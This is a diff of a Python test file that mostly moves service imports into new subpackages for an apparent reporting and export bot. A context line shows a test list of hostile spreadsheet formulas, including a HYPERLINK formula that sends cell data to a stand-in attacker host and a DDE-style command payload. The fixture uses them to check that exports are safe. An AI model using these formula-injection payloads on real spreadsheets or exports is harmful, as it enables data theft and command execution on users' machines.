@@ -12,7 +12,13 @@ from sqlalchemy import select
 
 from models.org import Branch
 from models.report import MonthlyReport
-from services import bureau, demo, demo_data, exports, ledger, org, summary
+from services.reports import bureau
+from services.demo import seed as demo
+from services.demo import sample_requests as demo_data
+from services.reports import exports
+from services.tasks import ledger
+from services.org import structure as org
+from services.reports import summary
 
 NOW = datetime(2026, 12, 20, 4, 0, tzinfo=timezone.utc)
 
@@ -141,7 +147,7 @@ def test_admin_create_reads_password_from_stdin(settings, session_factory, tmp_p
     import io
 
     import bot
-    from services import admin_accounts
+    from services.org import accounts as admin_accounts
     monkeypatch.setenv("DATABASE_URL", settings.database_url)
     monkeypatch.setenv("TONGXIN_VAR_DIR", str(tmp_path))
     monkeypatch.setattr("sys.stdin", io.StringIO("long-enough-pw\n"))
@@ -162,7 +168,7 @@ HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A
 def hostile_task(settings, session_factory) -> None:
     """A member named like a formula files a formula-like request; the 办结说明 is one too."""
     from models.org import Person
-    from services import tasks
+    from services.tasks import lifecycle as tasks
     with session_factory() as session:
         org.sync_org(session, settings)
         demo.seed(session, settings, now=NOW)
